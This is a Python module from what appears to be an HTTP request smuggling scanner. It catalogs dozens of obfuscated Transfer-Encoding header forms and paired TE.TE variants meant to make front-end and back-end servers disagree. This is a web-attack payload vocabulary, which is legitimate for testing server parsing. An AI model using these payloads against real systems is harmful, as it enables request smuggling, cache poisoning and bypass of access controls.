"""Transfer-Encoding obfuscation vocabulary.

One ordered catalog of Transfer-Encoding header forms that a front end and
a back end may disagree on. CL.TE and TE.CL emit one variant per entry, and
TE.TE pairs entries so the two hops pick different headers as authoritative.

The order is part of the public contract: variant indexes are derived from
it, and exported payload names embed those indexes.
"""

from enum import Enum
from typing import List, Dict, Optional, Tuple
from dataclasses import dataclass


class ObfuscationCategory(Enum):
    """Categories of Transfer-Encoding obfuscation."""
    BASIC = "basic"
    CAPITALIZATION = "capitalization"
    WHITESPACE = "whitespace"
    CONTROL_CHARS = "control_chars"
    VALUE_MUTATION = "value_mutation"
    HEADER_NAME = "header_name"
    NEWLINE = "newline"
    ENCODING = "encoding"
    DUPLICATE = "duplicate"


@dataclass(frozen=True)
class TEObfuscation:
    """A single Transfer-Encoding header form.

    ``header`` is inserted verbatim and may span several lines.
    """
    header: str
    category: ObfuscationCategory
    description: str

    def __str__(self) -> str:
        return self.header


# Bytes probed both before the header name and between name and colon
CONTROL_BYTES: Tuple[int, ...] = (0x09, 0x0A, 0x0B, 0x0C, 0x0D, 0x20)


def _control_variants() -> List[TEObfuscation]:
    variants = []
    for byte in CONTROL_BYTES:
        variants.append(TEObfuscation(
            f"{chr(byte)}Transfer-Encoding: chunked",
            ObfuscationCategory.CONTROL_CHARS,
            f"0x{byte:02X} before header name",
        ))
    for byte in CONTROL_BYTES:
        variants.append(TEObfuscation(
            f"Transfer-Encoding{chr(byte)}: chunked",
            ObfuscationCategory.CONTROL_CHARS,
            f"0x{byte:02X} between header name and colon",
        ))
    return variants


_C = ObfuscationCategory

TE_OBFUSCATIONS: List[TEObfuscation] = [
    TEObfuscation("Transfer-Encoding: chunked", _C.BASIC, "Plain header"),

    # Case
    TEObfuscation("transfer-encoding: chunked", _C.CAPITALIZATION, "Lowercase name"),
    TEObfuscation("TRANSFER-ENCODING: chunked", _C.CAPITALIZATION, "Uppercase name"),
    TEObfuscation("tRaNsFeR-eNcOdInG: chunked", _C.CAPITALIZATION, "Mixed-case name"),
    TEObfuscation("Transfer-encoding: chunked", _C.CAPITALIZATION, "Lowercase second word"),
    TEObfuscation("Transfer-Encoding: CHUNKED", _C.CAPITALIZATION, "Uppercase value"),
    TEObfuscation("Transfer-Encoding: Chunked", _C.CAPITALIZATION, "Capitalized value"),
    TEObfuscation("TrAnSfEr-EnCoDiNg: cHuNkEd", _C.CAPITALIZATION, "Mixed-case name and value"),

    # Whitespace around the colon and value
    TEObfuscation("Transfer-Encoding:\tchunked", _C.WHITESPACE, "Tab after colon"),
    TEObfuscation("Transfer-Encoding\t:\tchunked", _C.WHITESPACE, "Tabs around colon"),
    TEObfuscation("Transfer-Encoding:chunked", _C.WHITESPACE, "No space after colon"),
    TEObfuscation("Transfer-Encoding:  chunked", _C.WHITESPACE, "Double space after colon"),
    TEObfuscation("Transfer-Encoding: chunked ", _C.WHITESPACE, "Trailing space"),
    TEObfuscation("Transfer-Encoding: chunked\t", _C.WHITESPACE, "Trailing tab"),
    TEObfuscation("Transfer-Encoding: \tchunked", _C.WHITESPACE, "Space then tab"),
    TEObfuscation("Transfer-Encoding :chunked", _C.WHITESPACE, "Space before colon, none after"),

    # Control characters
    *_control_variants(),
    TEObfuscation("Transfer-Encoding:\x0bchunked", _C.CONTROL_CHARS, "Vertical tab after colon"),
    TEObfuscation("Transfer-Encoding:\x0cchunked", _C.CONTROL_CHARS, "Form feed after colon"),
    TEObfuscation("Transfer-Encoding: chunked\x0b", _C.CONTROL_CHARS, "Trailing vertical tab"),
    TEObfuscation("Transfer-Encoding: chunked\x00", _C.CONTROL_CHARS, "Trailing NUL"),
    TEObfuscation("Transfer-Encoding: chu\x00nked", _C.CONTROL_CHARS, "NUL inside value"),
    TEObfuscation("Transfer-Encoding: chunked\x7f", _C.CONTROL_CHARS, "Trailing DEL"),

    # Value mutations
    TEObfuscation("Transfer-Encoding: chunked, identity", _C.VALUE_MUTATION, "chunked then identity"),
    TEObfuscation("Transfer-Encoding: identity, chunked", _C.VALUE_MUTATION, "identity then chunked"),
    TEObfuscation("Transfer-Encoding: gzip, chunked", _C.VALUE_MUTATION, "gzip then chunked"),
    TEObfuscation("Transfer-Encoding: chunked,chunked", _C.VALUE_MUTATION, "Repeated token"),
    TEObfuscation("Transfer-Encoding: \"chunked\"", _C.VALUE_MUTATION, "Double-quoted value"),
    TEObfuscation("Transfer-Encoding: 'chunked'", _C.VALUE_MUTATION, "Single-quoted value"),
    TEObfuscation("Transfer-Encoding: chunk", _C.VALUE_MUTATION, "Truncated token"),
    TEObfuscation("Transfer-Encoding: xchunked", _C.VALUE_MUTATION, "Prefixed token"),
    TEObfuscation("Transfer-Encoding: chunkedx", _C.VALUE_MUTATION, "Suffixed token"),
    TEObfuscation("Transfer-Encoding: chunked;foo=bar", _C.VALUE_MUTATION, "Token parameter"),
    TEObfuscation("Transfer-Encoding: ,chunked", _C.VALUE_MUTATION, "Leading empty list element"),
    TEObfuscation("Transfer-Encoding: chunked,", _C.VALUE_MUTATION, "Trailing empty list element"),

    # Header name mutations
    TEObfuscation("Transfer_Encoding: chunked", _C.HEADER_NAME, "Underscore for hyphen"),
    TEObfuscation("Transfer Encoding: chunked", _C.HEADER_NAME, "Space for hyphen"),
    TEObfuscation("TransferEncoding: chunked", _C.HEADER_NAME, "Hyphen removed"),
    TEObfuscation("Transfer\\Encoding: chunked", _C.HEADER_NAME, "Backslash for hyphen"),
    TEObfuscation("Transfer.Encoding: chunked", _C.HEADER_NAME, "Dot for hyphen"),
    TEObfuscation("Transfer--Encoding: chunked", _C.HEADER_NAME, "Doubled hyphen"),
    TEObfuscation("Transfer-Encoding:: chunked", _C.HEADER_NAME, "Doubled colon after name"),

    # Line breaks and folding
    TEObfuscation("Transfer-Encoding:\n chunked", _C.NEWLINE, "LF fold before value"),
    TEObfuscation("Transfer-Encoding:\r\n chunked", _C.NEWLINE, "CRLF fold before value"),
    TEObfuscation("Transfer-Encoding\r\n : chunked", _C.NEWLINE, "CRLF fold before colon"),
    TEObfuscation("Transfer-Encoding:\nchunked", _C.NEWLINE, "Bare LF after colon"),
    TEObfuscation("Transfer-Encoding: chunked\r", _C.NEWLINE, "Trailing CR"),
    TEObfuscation("Foo: bar\rTransfer-Encoding: chunked", _C.NEWLINE, "Bare CR as line break"),
    TEObfuscation("Foo: bar\nTransfer-Encoding: chunked", _C.NEWLINE, "Bare LF as line break"),
    TEObfuscation("Tra\rnsfer-Encoding: chunked", _C.NEWLINE, "CR inside name"),
    TEObfuscation("X: y\r\n Transfer-Encoding: chunked", _C.NEWLINE, "Folded into previous header"),

    # Encoding tricks
    TEObfuscation("Transfer-%45ncoding: chunked", _C.ENCODING, "Percent-encoded name byte"),
    TEObfuscation("Transfer-Encoding: %63hunked", _C.ENCODING, "Percent-encoded value byte"),
    TEObfuscation("Transfer-Encoding: =?UTF-8?B?Y2h1bmtlZA==?=", _C.ENCODING, "MIME encoded-word value"),
    TEObfuscation(
        "Transfer-Encoding: chunked\r\nContent-Encoding: chunked",
        _C.ENCODING,
        "chunked repeated under Content-Encoding",
    ),
    TEObfuscation(
        "Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked",
        _C.ENCODING,
        "Transfer-Encoding listed as hop-by-hop",
    ),

    # Duplicates
    TEObfuscation("Transfer-Encoding: chunked\r\nTransfer-Encoding: identity", _C.DUPLICATE, "chunked then identity header"),
    TEObfuscation("Transfer-Encoding: identity\r\nTransfer-Encoding: chunked", _C.DUPLICATE, "identity then chunked header"),
    TEObfuscation("Transfer-Encoding: chunked\r\nTransfer-Encoding: x", _C.DUPLICATE, "chunked then bogus header"),
    TEObfuscation("Transfer-Encoding: x\r\nTransfer-Encoding: chunked", _C.DUPLICATE, "Bogus then chunked header"),
    TEObfuscation("Transfer-Encoding:\r\nTransfer-Encoding: chunked", _C.DUPLICATE, "Empty then chunked header"),
    TEObfuscation("Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked", _C.DUPLICATE, "Header repeated"),
]


# (header A, header B, description). A is the plain form; B is the form one
# hop is expected to reject or honor differently.
TE_TE_PAIRS: List[Tuple[str, str, str]] = [
    ("Transfer-Encoding: chunked", "Transfer-Encoding: x-custom", "Unknown coding second"),
    ("Transfer-Encoding: chunked", "Transfer-Encoding: identity", "identity second"),
    ("Transfer-Encoding: chunked", "Transfer-Encoding: gzip, chunked", "gzip list second"),
    ("Transfer-Encoding: chunked", "Transfer-Encoding: chunked, identity", "identity-terminated list second"),
    ("Transfer-Encoding: chunked", "Transfer-Encoding: cow", "Nonsense coding second"),
    ("Transfer-Encoding: chunked", "Transfer-Encoding: compress", "compress second"),
    ("Transfer-Encoding: chunked", "Transfer-Encoding: deflate", "deflate second"),
    ("Transfer-Encoding: chunked", " Transfer-Encoding: chunked", "Leading space second"),
    ("Transfer-Encoding: chunked", "Transfer-Encoding : chunked", "Space before colon second"),
    ("Transfer-Encoding: chunked", "Transfer-Encoding:\tchunked", "Tab separator second"),
    ("Transfer-Encoding: chunked", "Transfer-Encoding: \"chunked\"", "Double-quoted second"),
    ("Transfer-Encoding: chunked", "Transfer-Encoding: 'chunked'", "Single-quoted second"),
    ("Transfer-Encoding: chunked", "transfer-encoding: chunked", "Lowercase second"),
    ("Transfer-Encoding: chunked", "TRANSFER-ENCODING: CHUNKED", "Uppercase second"),
    ("Transfer-Encoding: chunked", "TrAnSfEr-EnCoDiNg: ChUnKeD", "Mixed case second"),
    ("Transfer-Encoding: x-custom", "Transfer-Encoding: chunked", "Unknown coding first"),
    ("Transfer-Encoding: identity", "Transfer-Encoding: chunked", "identity first"),
    ("Transfer-Encoding: chunked", "Transfer-Encoding:\x0bchunked", "Vertical tab second"),
    ("Transfer-Encoding: chunked", "Transfer-Encoding: chunked\r", "Trailing CR second"),
    ("Transfer-Encoding: chunked", "Transfer_Encoding: chunked", "Underscore name second"),
    ("Transfer-Encoding: chunked", "Transfer-Encoding:\n chunked", "Folded second"),
    ("Transfer-Encoding: chunked", "Transfer-Encoding: chunk", "Truncated token second"),
]


def get_te_mutations() -> List[str]:
    """Get list of all TE obfuscation header strings."""
    return [te.header for te in TE_OBFUSCATIONS]


def get_te_mutations_by_category(
    category: Optional[ObfuscationCategory] = None,
) -> List[TEObfuscation]:
    """Get TE obfuscations, optionally filtered by category.

    Args:
        category: Optional category filter

    Returns:
        Filtered list of obfuscations, catalog order preserved
    """
    if category is None:
        return list(TE_OBFUSCATIONS)
    return [te for te in TE_OBFUSCATIONS if te.category == category]


def get_categories_summary() -> Dict[ObfuscationCategory, int]:
    """Get count of obfuscations per category."""
    return {
        category: len(get_te_mutations_by_category(category))
        for category in ObfuscationCategory
    }
